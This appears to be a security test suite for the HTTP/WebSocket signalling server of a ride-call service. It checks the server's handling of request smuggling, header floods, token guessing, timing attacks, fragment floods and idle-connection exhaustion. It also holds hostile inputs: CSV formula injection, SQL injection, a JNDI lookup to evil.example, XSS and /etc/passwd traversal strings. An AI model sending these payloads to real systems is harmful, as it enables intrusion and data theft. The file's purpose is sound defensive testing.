import { afterEach, describe, expect, test } from 'bun:test'
import { randomBytes } from 'node:crypto'
import { connect } from 'node:net'
import { PAYLOAD_BYTES } from '../../src/services/direct/directs.ts'
import { exchange, request, socketsOf } from '../kit/raw-http.ts'
import { BINARY, frame, PING, PONG, RawPeer, Refused, TEXT } from '../kit/raw-peer.ts'
import { IN_REAL_TIME } from '../kit/real-time.ts'
import {
  API_KEY,
  activeRide,
  closeServers,
  joinAs,
  type RideUnderTest,
  type Session,
  seat,
  startServer,
  type TestServer,
} from '../kit/server.ts'
import { until } from '../kit/until.ts'

afterEach(closeServers)

/** Rounds of the race for a place; test/soak/ has more of them. */
const ROUNDS = Number(process.env.ROUNDS ?? 60)

const OFFER = '{"type":"offer","sdp":"v=0"}'

/** The call goes on, both ways, and nothing came but what the other said. */
async function unharmed({ driver, passenger }: RideUnderTest): Promise<void> {
  driver.peer.send(OFFER)
  expect(await passenger.peer.nextText()).toBe(OFFER)
  passenger.peer.send(OFFER)
  expect(await driver.peer.nextText()).toBe(OFFER)
}

/** Nothing that a client did is an error of ours. */
function noErrors(server: TestServer): void {
  expect(server.logged.filter(({ level }) => level === 'error')).toEqual([])
}

async function refusal(opening: Promise<RawPeer>): Promise<Refused> {
  const answer = await opening.then(
    () => null,
    (error: unknown) => error,
  )
  if (!(answer instanceof Refused)) throw new Error('the handshake was not refused')
  return answer
}

describe('requests that no client sends', () => {
  const key = { 'X-API-Key': API_KEY }
  const post = (headers: Record<string, string>, body: string) =>
    request('POST /sessions', { ...key, 'Content-Type': 'application/json', ...headers }) + body
  const second = 'GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'
  const chunked = { 'Transfer-Encoding': 'chunked' }
  const key16 = 'dGhlIHNhbXBsZSBub25jZQ=='
  const shake = (headers: Record<string, string>) =>
    request('GET /ws', {
      Upgrade: 'websocket',
      Connection: 'Upgrade, close',
      'Sec-WebSocket-Version': '13',
      'Sec-WebSocket-Key': key16,
      ...headers,
    })
  const many = Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`a${i}`, 'b']))

  const rows: [string, string, number[]][] = [
    ['an empty Host', request('GET /health', { Host: '' }), [200]],
    ['HTTP/1.0 without a Host, as some health checks', 'GET /health HTTP/1.0\r\n\r\n', [200]],
    ['an address and no Host', request('GET http://evil.example/health', { Host: '' }), [200]],
    ['an address and a Host', request('GET http://evil.example/health'), [200]],
    ['no Host', 'GET /health HTTP/1.1\r\n\r\n', [400]],
    ...['a b', '[', 'x:99999', 'u:p@x', 'x/y?z#', '<script>', '%', '\u00ff'].map(
      (host): [string, string, number[]] => [
        `the Host ${host}`,
        request('GET /health', { Host: host }),
        [400],
      ],
    ),
    ['a path of two slashes', request('GET //ws'), [404]],
    ['a path with a slash too many', request('GET /ws/'), [404]],
    ['a path that names a host', request('GET //evil.example/health'), [404]],
    ['a path of 8 KB', request(`GET /${'a'.repeat(8_000)}`), [404]],
    ['an encoded slash', request('GET /sessions/a%2fb', key), [404]],
    ['bytes that are no UTF-8 in a path', request('GET /sessions/%ff%00', key), [404]],
    ['TRACE', request('TRACE /health'), [405]],
    ['PROPFIND', request('PROPFIND /calls', key), [405]],
    ['OPTIONS without a path', request('OPTIONS *'), [400]],
    ['a method that is none', request('BREW /health'), []],
    ['two lengths', post({ 'Content-Length': '2\r\nContent-Length: 3' }, `{}${second}`), [400]],
    [
      'a length and chunks',
      post({ 'Content-Length': '2', ...chunked }, `2\r\n{}\r\n0\r\n\r\n${second}`),
      [400],
    ],
    ['a length below 0', post({ 'Content-Length': '-1' }, second), [400]],
    ['a length with a sign', post({ 'Content-Length': '+2' }, '{}'), [400]],
    ['a length of 2^64', post({ 'Content-Length': '18446744073709551616' }, '{}'), [400]],
    ['a length of a terabyte', post({ 'Content-Length': '1099511627776' }, '{}'), [413]],
    ['an encoding that is almost one', post({ 'Transfer-Encoding': 'xchunked' }, `{}${second}`), [400]],
    ['a chunk of no length', post(chunked, `ZZ\r\n{}\r\n0\r\n\r\n${second}`), [400]],
    ['lines that end in LF', 'GET /health HTTP/1.1\nHost: x\n\n', [505]],
    ['a space before a colon', request('GET /health', { 'A ': 'b' }), [400]],
    ['a header over two lines', request('GET /health', { A: 'b\r\n c' }), [400]],
    ['1,000 headers', request('GET /health', many), [431]],
    ['a header of 17 KB', request('GET /health', { A: 'b'.repeat(17_000) }), [431]],
    ['a key of 64 KB', request('GET /calls', { 'X-API-Key': 'k'.repeat(65_536) }), [431]],
    ['a key that is not ASCII', request('GET /calls', { 'X-API-Key': '\u00ff' }), [401]],
    [
      'the right key twice',
      request('GET /calls', { 'X-API-Key': `${API_KEY}\r\nX-API-Key: ${API_KEY}` }),
      [401],
    ],
    ['the right key with spaces after it', request('GET /calls', { 'X-API-Key': `${API_KEY}  ` }), [200]],
    ['TLS', `\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03${'a'.repeat(500)}`, [400]],
    ['the PROXY protocol', `PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n${second}`, [400]],
    ['HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', [400]],
    ['a handshake without Connection', shake({ Connection: 'close' }), [426]],
    ['a handshake with a body of a POST', shake({}).replace('GET', 'POST'), [405]],
    ['a handshake on another path', shake({}).replace('/ws', '/health'), [200]],
    [
      'a list of subprotocols of 60 KB',
      shake({ 'Sec-WebSocket-Protocol': `a${' '.repeat(60_000)}b` }),
      [431],
    ],
  ]

  test('[HTTP-11] [WS-1] each gets its answer, one and no more, and none is an error of ours', async () => {
    const server = await startServer()
    const ride = await activeRide(server)
    const got = await Promise.all(
      rows.map(async ([name, bytes]) => {
        const { statuses, took } = await exchange(server.port, Buffer.from(bytes, 'latin1'))
        if (took > 2_000) throw new Error(`${name} took ${took} ms`)
        return [name, statuses]
      }),
    )
    expect(got).toEqual(rows.map(([name, , statuses]) => [name, statuses]))
    noErrors(server)
    await unharmed(ride)
  })

  test('[HTTP-11] [WS-1] what we answer ourselves is JSON that names nothing back', async () => {
    const server = await startServer()
    for (const bytes of [
      request('GET /health', { Host: '<script>' }),
      request('GET /<script>'),
      request('TRACE /health'),
      shake({ 'Sec-WebSocket-Key': '<script>' }),
    ]) {
      const { text } = await exchange(server.port, bytes)
      const [head = '', body = ''] = text.split('\r\n\r\n')
      expect(head).toMatch(/content-type: application\/json/i)
      expect(JSON.parse(body)).toEqual({ error: { code: expect.any(String), message: expect.any(String) } })
      expect(body).not.toContain('script')
    }
  })

  test('[WS-1] a handshake with lists and other cases is a handshake; a subprotocol is taken, as browsers ask, an extension never', async () => {
    const server = await startServer()
    for (const headers of [
      { Upgrade: 'WebSocket', Connection: 'keep-alive, upgrade' },
      { Upgrade: 'h2c, websocket', Connection: 'Upgrade, HTTP2-Settings' },
      { 'Sec-WebSocket-Protocol': 'a, b' },
    ]) {
      const peer = await server.connect({ headers })
      peer.send({ type: 'heartbeat' })
      expect(await peer.next()).toMatchObject({ code: 'not_authenticated' })
    }
    const { text } = await exchange(
      server.port,
      // A frame that is not masked ends it.
      Buffer.concat([
        Buffer.from(
          shake({
            Connection: 'Upgrade',
            'Sec-WebSocket-Protocol': 'a, b',
            'Sec-WebSocket-Extensions': 'permessage-deflate, constructor, __proto__',
          }),
        ),
        Buffer.from([0x81, 0]),
      ]),
    )
    expect(text).toStartWith('HTTP/1.1 101')
    expect(text).toMatch(/sec-websocket-protocol: a\r\n/i)
    expect(text).not.toMatch(/sec-websocket-extensions/i)
  })

  test('[HTTP-11] who is silent, dribbles, or promises more than comes is cut within 12 s', async () => {
    const server = await startServer()
    const head = (length: number) =>
      request('POST /sessions', { ...key, 'Content-Type': 'application/json', 'Content-Length': `${length}` })
    const all = await Promise.all([
      exchange(server.port, ''),
      exchange(server.port, 'GET /health HTTP/1.1\r\n', 500),
      exchange(server.port, head(1_000), 500),
      exchange(server.port, `${head(20)}{}`),
    ])
    for (const { took, statuses } of all) {
      expect(took).toBeLessThan(13_000)
      expect(statuses).not.toContain(200)
    }
    noErrors(server)
  }, 20_000)
})

describe('guessing', () => {
  const claim = (session_id: string, user_id: string) => ({ type: 'authenticate', session_id, user_id })

  test('[RIDE-2] [WS-2] of session ids is soon not listened to', async () => {
    const server = await startServer({ RATE_LIMIT_PER_MIN: '10' })
    for (let guess = 0; guess < 10; guess++) {
      const peer = await server.connect()
      peer.send(claim(crypto.randomUUID(), 'user_123'))
      expect((await peer.closed()).code).toBe(4401)
    }
    expect((await refusal(server.connect())).status).toBe(429)
    const { body } = await server.ask('GET', '/health', undefined, { 'x-api-key': '' })
    expect(body).toEqual({ status: 'ok' })
  })

  test(
    '[RIDE-2] takes the same time whether there is no session, none any more, or one of others',
    IN_REAL_TIME,
    async () => {
      const server = await startServer()
      const live = await server.createSession()
      const over = await server.createSession()
      await server.ask('DELETE', `/sessions/${over.session_id}`)
      const ids = [crypto.randomUUID(), over.session_id, live.session_id]
      const took: number[][] = [[], [], []]
      for (let round = 0; round < 150; round++) {
        for (const [which, id] of ids.entries()) {
          const peer = await server.connect()
          const startedAt = performance.now()
          peer.send(claim(id, 'somebody'))
          await peer.next()
          took[which]?.push(performance.now() - startedAt)
          peer.drop()
        }
      }
      // Of the quick ones: those are the server's own, and the others the machine's.
      const usual = took.map((times) => times.sort((a, b) => a - b)[30] ?? Number.NaN)
      expect(Math.max(...usual) - Math.min(...usual)).toBeLessThan(1)
    },
  )

  test('[RIDE-17] at a resume token, from one that is right in all but one character, gets nowhere', async () => {
    const server = await startServer()
    const { driver, passenger } = await activeRide(server)
    const right = driver.resumeToken
    const wrong = Array.from(
      right,
      (char, at) => right.slice(0, at) + (char === 'A' ? 'B' : 'A') + right.slice(at + 1),
    )
    const forms = [
      `${right}=`,
      `${right}A`,
      ` ${right}`,
      right.slice(1),
      right.slice(0, -1),
      right.toUpperCase(),
    ]
    const others = Array.from({ length: 50 }, () => randomBytes(77).toString('base64url'))
    for (const resume_token of [...wrong, ...forms, ...others]) {
      const peer = await server.connect()
      peer.send({ type: 'resume', resume_token, received: 3 })
      expect(await peer.nextText()).toBe('{"type":"unauthorized","reason":"resume_failed"}')
    }
    for (const received of [4, 2 ** 53 - 1]) {
      const peer = await server.connect()
      peer.send({ type: 'resume', resume_token: right, received })
      expect(await peer.nextText()).toBe('{"type":"unauthorized","reason":"resume_failed"}')
    }
    for (const received of [-1, 2 ** 53, 1.5, '3', null]) {
      const peer = await server.connect()
      peer.send({ type: 'resume', resume_token: right, received })
      expect(await peer.next()).toMatchObject({ type: 'error', code: 'invalid_field' })
    }
    expect(await passenger.peer.settle()).toEqual([])
    const back = await server.connect()
    back.send({ type: 'resume', resume_token: right, received: 3 })
    expect(await back.next()).toMatchObject({ type: 'resumed', replayed: 0 })
  })
})

test('[HTTP-2] a wrong key takes as long however much of it is right', IN_REAL_TIME, async () => {
  const server = await startServer()
  const guesses = [`${API_KEY.slice(0, -1)}x`, `x${API_KEY.slice(1)}`, 'x'.repeat(API_KEY.length), 'x']
  const took = guesses.map((): number[] => [])
  for (let round = 0; round < 40; round++) {
    for (const [which, guess] of guesses.entries()) {
      const startedAt = performance.now()
      for (let i = 0; i < 500; i++) server.keys.api.accepts(guess)
      took[which]?.push(performance.now() - startedAt)
    }
  }
  const [first = 0, ...others] = took.map((times) => times.sort((a, b) => a - b)[10] ?? 0)
  for (const other of others) expect(Math.abs(other - first) / first).toBeLessThan(0.3)
})

describe('the same user many times', () => {
  test('[RIDE-5] who comes in at once with others is in alone, every time, and hears everything', async () => {
    const server = await startServer({ SESSION_DURATION: '1h', MESSAGES_PER_SECOND: '10000' })
    const { session, driver, passenger } = await activeRide(server)
    let token = driver.resumeToken
    let received = 3
    let holder = driver.peer
    for (let round = 0; round < ROUNDS; round++) {
      const peers = await Promise.all(Array.from({ length: 5 }, () => server.connect()))
      peers.forEach((peer, i) => {
        const authenticate = { type: 'authenticate', session_id: session.session_id, user_id: 'user_123' }
        // Some are the client that lost its connection, the others what the one who sits there forbids.
        if (i % 2 === 0) peer.send({ type: 'resume', resume_token: token, received })
        else peer.send(authenticate)
      })
      const answers = await Promise.all(peers.map((peer) => peer.next()))
      // Until one is heard they are one client that tries again, and the last of them has the place.
      const resumed = peers.filter((_, i) => answers[i]?.type === 'resumed')
      await until(() => resumed.filter((peer) => !peer.isClosed).length === 1, 'one of them to be left')
      const winner = resumed.find((peer) => !peer.isClosed) as RawPeer
      expect(await holder.closed()).toEqual({ code: 4409, reason: 'taken_over' })
      for (const peer of peers) {
        if (peer === winner) continue
        const { code } = await peer.closed()
        expect(resumed.includes(peer) ? [4409] : [4401, 4423]).toContain(code)
      }
      passenger.peer.send(OFFER)
      expect(await winner.nextText()).toBe(OFFER)
      token = answers[peers.indexOf(winner)].resume_token
      received++
      holder = winner
    }
    expect(await passenger.peer.settle()).toEqual([])
    expect((await server.ask('GET', '/metrics')).text).toMatch(/^ringdown_sockets 2$/m)
  })

  test('[RIDE-5] a war over a place is one that only the one who sits there wins', async () => {
    const server = await startServer()
    const ride = await activeRide(server)
    const attackers = await Promise.all(Array.from({ length: 100 }, () => server.connect()))
    for (const peer of attackers) {
      peer.send({ type: 'authenticate', session_id: ride.session.session_id, user_id: 'user_123' })
    }
    for (const peer of attackers) {
      expect(await peer.next()).toMatchObject({ type: 'error', code: 'already_connected' })
    }
    await unharmed(ride)
    expect(await ride.passenger.peer.settle()).toEqual([])
  })
})

describe('using a ride for something else', () => {
  test('[WS-10] as a pipe carries no more than a call may, however often it is taken up anew', async () => {
    const limit = 65_536
    const server = await startServer({ BYTES_PER_MINUTE: String(limit), MESSAGES_PER_SECOND: '1000' })
    const { driver, passenger } = await activeRide(server)
    const cargo = `{"type":"offer","sdp":"${'x'.repeat(4_000)}"}`
    let { peer, resumeToken } = driver
    for (let connection = 0; connection < 20; connection++) {
      for (let i = 0; i < 25; i++) peer.send(cargo)
      peer.drop()
      const back = await server.connect()
      back.send({ type: 'resume', resume_token: resumeToken, received: 3 })
      resumeToken = (await back.next()).resume_token
      peer = back
    }
    const got = (await passenger.peer.settle()).filter((text) => text.startsWith('{"type":"offer"'))
    expect(got.length).toBeGreaterThan(10)
    expect(got.length * cargo.length).toBeLessThanOrEqual(limit)
    expect(passenger.peer.isClosed).toBe(false)
  })

  test('[RIDE-3] is not open to a stranger, whatever it says and however often', async () => {
    const server = await startServer()
    const ride = await activeRide(server)
    const { session_id } = ride.session
    const said = [
      OFFER,
      '{"type":"end_call"}',
      `{"type":"end_call","session_id":"${session_id}","user_id":"user_123"}`,
      `{"type":"session_joined","session_id":"${session_id}","ride_id":"ride_456"}`,
      `{"type":"offer","sdp":"v=0","session_id":"${session_id}","to":"user_789"}`,
    ]
    const stranger = await server.connect()
    for (const text of said) stranger.send(text)
    for (const _ of said) expect((await stranger.next()).type).toBe('error')
    const asking = await server.connect()
    asking.send({ type: 'authenticate', session_id, user_id: 'user_123' })
    for (let i = 0; i < 3; i++) asking.send(OFFER)
    for (let i = 0; i < 3; i++) expect(await asking.next()).toMatchObject({ code: 'not_authenticated' })
    expect(await asking.next()).toMatchObject({ code: 'already_connected' })
    await unharmed(ride)
  })
})

describe('memory and descriptors', () => {
  /** What the server holds more of than before, in MB. Client and server are one process here, so it is at most that. */
  async function grown(work: () => Promise<void>): Promise<number> {
    Bun.gc(true)
    const before = process.memoryUsage.rss()
    await work()
    return (process.memoryUsage.rss() - before) / 1e6
  }

  async function until(condition: () => boolean | Promise<boolean>, within: number): Promise<boolean> {
    const deadline = performance.now() + within
    while (!(await condition())) {
      if (performance.now() > deadline) return false
      await Bun.sleep(50)
    }
    return true
  }

  test('[WS-7] a message in fragments that never ends costs no more than a message, and ends at the limit', async () => {
    const server = await startServer()
    const piece = frame(0, Buffer.from('x'), { fin: false })
    const pieces = Buffer.concat(Array.from({ length: 8_000 }, () => piece))
    const peers = await Promise.all(Array.from({ length: 200 }, () => server.connect()))
    const megabytes = await grown(async () => {
      for (const peer of peers) {
        peer.frame(TEXT, 'x', { fin: false })
        peer.socket.write(pieces)
      }
      for (const peer of peers) await peer.settle()
    })
    expect(megabytes).toBeLessThan(64)
    expect(peers.some(({ isClosed }) => isClosed)).toBe(false)
    // The runtime has one limit for all sockets: twice the largest message of any service.
    const larger = frame(0, Buffer.alloc(16, 'x'), { fin: false })
    const rest = Buffer.concat(Array.from({ length: (2 * PAYLOAD_BYTES) / 16 }, () => larger))
    for (const peer of peers) peer.socket.write(rest)
    for (const peer of peers) expect((await peer.closed()).code).toBe(1009)
    noErrors(server)
  })

  test('[WS-7] fragments of nothing do not keep the server from others', IN_REAL_TIME, async () => {
    const server = await startServer()
    const ride = await activeRide(server)
    const hostile = await server.connect()
    hostile.frame(TEXT, 'x', { fin: false })
    const nothing = Buffer.concat(
      Array.from({ length: 20_000 }, () => frame(0, Buffer.alloc(0), { fin: false })),
    )
    const took: number[] = []
    for (let i = 0; i < 20; i++) {
      hostile.socket.write(nothing)
      const startedAt = performance.now()
      await unharmed(ride)
      took.push(performance.now() - startedAt)
    }
    // A machine that stands still makes some of them slow, and fragments would make all.
    expect(took.sort((a, b) => a - b)[10]).toBeLessThan(500)
  })

  test(
    '[WS-5] thousands who say nothing keep nobody out, and are gone after 10 s',
    IN_REAL_TIME,
    async () => {
      const server = await startServer()
      const silent: RawPeer[] = []
      for (let i = 0; i < 20; i++) {
        silent.push(...(await Promise.all(Array.from({ length: 100 }, () => server.connect()))))
      }
      const startedAt = performance.now()
      await unharmed(await activeRide(server))
      expect(performance.now() - startedAt).toBeLessThan(500)
      await server.clock.wind(10_100)
      const codes = await Promise.all(silent.map(async (peer) => (await peer.closed()).code))
      expect(new Set(codes)).toEqual(new Set([4401]))
      expect((await server.ask('GET', '/metrics')).text).toMatch(/^ringdown_sockets 2$/m)
    },
  )

  test('a client that never reads again costs a descriptor for a few seconds only, however it came to be closed', async () => {
    const server = await startServer({ RECONNECT_GRACE: '10m', SESSION_DURATION: '1h' })
    const big = await startServer({
      MAX_MESSAGE_BYTES: '1000000',
      BYTES_PER_MINUTE: '1000000000',
      MESSAGES_PER_SECOND: '1000',
    })
    const dead = await server.connect({ pong: false })
    await seat(dead, await server.createSession(), 'user_123')
    const over = await server.createSession()
    const ended = await joinAs(server, over, 'user_123')
    const slow = await activeRide(big)
    for (const peer of [dead, ended.peer, slow.driver.peer]) peer.socket.pause()
    await server.clock.wind(31_000)
    await server.ask('DELETE', `/sessions/${over.session_id}`)
    for (let i = 0; i < 15; i++) slow.passenger.peer.send(`{"type":"offer","sdp":"${'x'.repeat(900_000)}"}`)
    await slow.passenger.peer.nextOf('participant_reconnecting')
    const port = (peer: RawPeer) => (peer.socket.localPort ?? 0).toString(16).toUpperCase().padStart(4, '0')
    const gone = [dead, ended.peer, slow.driver.peer].map(port)
    const left = async () =>
      [...(await socketsOf(server.port)), ...(await socketsOf(big.port))].filter((remote) =>
        gone.some((its) => remote.endsWith(`:${its}`)),
      )
    expect(await until(async () => (await left()).length === 0, 8_000)).toBe(true)
  }, 20_000)

  test('a client that ends its half of the connection is gone at once', async () => {
    const server = await startServer()
    const { driver, passenger } = await activeRide(server)
    driver.peer.send(OFFER)
    driver.peer.socket.end()
    expect(await passenger.peer.next()).toMatchObject({ type: 'offer' })
    expect(await passenger.peer.next()).toMatchObject({ type: 'participant_reconnecting' })
    noErrors(server)
  })

  test('more is sent before the handshake is answered than a client may, and it is cut', async () => {
    const server = await startServer()
    const socket = connect(server.port, '127.0.0.1')
    socket.on('error', () => {})
    const key = randomBytes(16).toString('base64')
    const closed = new Promise((resolve) => socket.on('close', resolve))
    socket.on('data', () => {})
    socket.write(
      `GET /ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${key}\r\n\r\n`,
    )
    const megabyte = frame(TEXT, Buffer.alloc(4_000, 'x'))
    for (let i = 0; i < 250; i++) socket.write(megabyte)
    await closed
    noErrors(server)
  })

  test('over MAX_CONNECTIONS the answer is 503 with Retry-After, until somebody leaves', async () => {
    const server = await startServer({ MAX_CONNECTIONS: '3' })
    const ride = await activeRide(server)
    const third = await server.connect()
    const refused = await refusal(server.connect())
    expect([refused.status, JSON.parse(refused.body).error.code]).toEqual([503, 'overloaded'])
    await unharmed(ride)
    third.close(1000)
    await third.ended()
    await server.connect()
  })
})

describe('odd but right', () => {
  test('[RIDE-7] a message with everything escaped, in any order, with more in it, is the message', async () => {
    const server = await startServer()
    const session = await server.createSession()
    const escaped = (text: string) =>
      Array.from(text, (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')
    const member = (name: string, value: string) => `"${escaped(name)}" : "${escaped(value)}"`
    const driver = await server.connect()
    driver.send(
      ` {\n\t${member('user_id', 'user_123')},"more":[{"a":{"b":null}}], ${member('session_id', session.session_id)},\r\n${member('type', 'authenticate')} } `,
    )
    expect((await driver.next()).type).toBe('authenticated')
    const { peer: passenger } = await joinAs(server, session, 'user_789')
    await passenger.nextOf('participant_joined')
    const offer = `{"more":{"deep":[[[[1e5]]]]} ,${member('sdp', 'v=0')},${member('type', 'offer')}}`
    driver.send(offer)
    expect(await passenger.nextText()).toBe(offer)
  })

  test('[WS-4] a page of the public address passes, also behind a proxy that does not say how it was asked', async () => {
    const server = await startServer({ SITEURL: 'https://voice.example.com' })
    await server.connect({ headers: { Host: 'voice.example.com', Origin: 'https://voice.example.com' } })
    const headers = { Host: 'voice.example.com', Origin: 'https://voice.example.com.evil' }
    expect((await refusal(server.connect({ headers }))).status).toBe(403)
  })

  test('[WS-6] one who only answers pings lives, and one who only sends heartbeats', async () => {
    const server = await startServer({ SESSION_DURATION: '1h' })
    const session = await server.createSession()
    const pongs = await joinAs(server, session, 'user_123')
    const beats = await server.connect({ pong: false })
    await seat(beats, session, 'user_789')
    for (let i = 0; i < 10; i++) {
      await server.clock.wind(15_000)
      beats.send({ type: 'heartbeat' })
      await beats.nextOf('pong')
    }
    expect([pongs.peer.isClosed, beats.isClosed]).toEqual([false, false])
  })

  test('[RIDE-16] who closes in the middle of what it missed has lost nothing', async () => {
    const server = await startServer()
    const { driver, passenger } = await activeRide(server)
    driver.peer.drop()
    await passenger.peer.nextOf('participant_reconnecting')
    const offers = Array.from({ length: 50 }, (_, i) => `{"type":"offer","sdp":"${i}"}`)
    for (const offer of offers) passenger.peer.send(offer)
    await passenger.peer.settle()
    const middle = await server.connect()
    middle.send({ type: 'resume', resume_token: driver.resumeToken, received: 3 })
    middle.close(4000)
    const { resume_token } = await middle.nextOf('resumed')
    for (let i = 0; i < 10; i++) expect(await middle.nextText()).toBe(offers[i] as string)
    const back = await server.connect()
    back.send({ type: 'resume', resume_token, received: 13 })
    expect(await back.next()).toMatchObject({ type: 'resumed', replayed: 40 })
    for (let i = 10; i < 50; i++) expect(await back.nextText()).toBe(offers[i] as string)
    noErrors(server)
  })
})

describe('what others see of it', () => {
  test('[HTTP-10] no client can add a series to the metrics', async () => {
    const server = await startServer()
    const series = async () => {
      const { text } = await server.ask('GET', '/metrics')
      return text.split('\n').filter((line) => line !== '' && !line.startsWith('#')).length
    }
    const session = await server.createSession()
    const before = await series()
    for (let i = 0; i < 150; i++) {
      const odd = randomBytes(8).toString('hex')
      await server.ask(i % 2 === 0 ? 'GET' : 'POST', `/${odd}?${odd}=${odd}`, undefined, {
        [`x-${odd}`]: odd,
      })
      await server.ask('GET', `/sessions/${odd}`)
      await RawPeer.open(server.url, { headers: { Origin: `https://${odd}.example` } }).catch(() => {})
      await RawPeer.open(server.url, { path: `/${odd}` }).catch(() => {})
      const peer = await server.connect()
      peer.send({ type: odd, [odd]: odd })
      peer.send({ type: 'authenticate', session_id: i % 3 === 0 ? session.session_id : odd, user_id: odd })
      peer.close(3000 + i, odd)
      await peer.ended()
    }
    expect(await series()).toBe(before)
  })

  test('[HTTP-9] text from the backend stays text, in the log, in the call log and in CSV', async () => {
    const server = await startServer()
    const hostile = [
      '=HYPERLINK("http://evil.example","x")',
      '+1|cmd',
      '-2+3',
      '@SUM(1)',
      "'; DROP TABLE call_logs; --",
      '" OR ""="',
      '#{jndi:ldap://evil.example}',
      '%s%n%x',
      '<script>alert(1)</script>',
      '\u202egnp.exe',
      '../../etc/passwd',
      '{"type":"end_call"}',
      'a","b',
      '__proto__',
      'ﬃ',
      'قيادة',
    ]
    const sessions: Session[] = []
    for (const text of hostile) {
      sessions.push(
        await server.createSession({ ride_id: text, driver_id: text, metadata: { [text]: text } }),
      )
    }
    const { body } = await server.ask('GET', '/calls?limit=100')
    expect(body.calls.map((call: { ride_id: string }) => call.ride_id).reverse()).toEqual(hostile)
    for (const [i, { session_id }] of sessions.entries()) {
      const found = await server.ask('GET', `/sessions/${session_id}`)
      const text = hostile[i] as string
      expect(found.body).toMatchObject({ ride_id: text, driver_id: text })
      expect(Object.entries(found.body.metadata)).toEqual([[text, text]])
    }
    const csv = (await server.ask('GET', '/calls?format=csv')).text.trimEnd().split('\r\n')
    expect(csv).toHaveLength(hostile.length + 1)
    for (const line of csv.slice(1))
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+\-@\t]/)
    // What is logged of a call are ids that we made.
    const logged = JSON.stringify(server.logged)
    for (const text of hostile) expect(logged).not.toContain(JSON.stringify(text).slice(1, -1))
  })
})

test('[WS-13] none of a hundred kinds of rubbish disturbs a call, and none is an error of ours', async () => {
  const server = await startServer()
  const ride = await activeRide(server)
  for (let i = 0; i < 100; i++) {
    const hostile = await server.connect()
    const rubbish = randomBytes(1 + ((i * 37) % 300))
    if (i % 4 === 0) hostile.socket.write(rubbish)
    else if (i % 4 === 1) hostile.frame(TEXT, rubbish)
    else if (i % 4 === 2) hostile.frame([BINARY, PING, PONG][i % 3] as number, rubbish.subarray(0, 125))
    else hostile.send(`{"type":"authenticate","session_id":${JSON.stringify(rubbish.toString('latin1'))}}`)
    hostile.drop()
    if (i % 10 === 0) await unharmed(ride)
  }
  await unharmed(ride)
  noErrors(server)
})
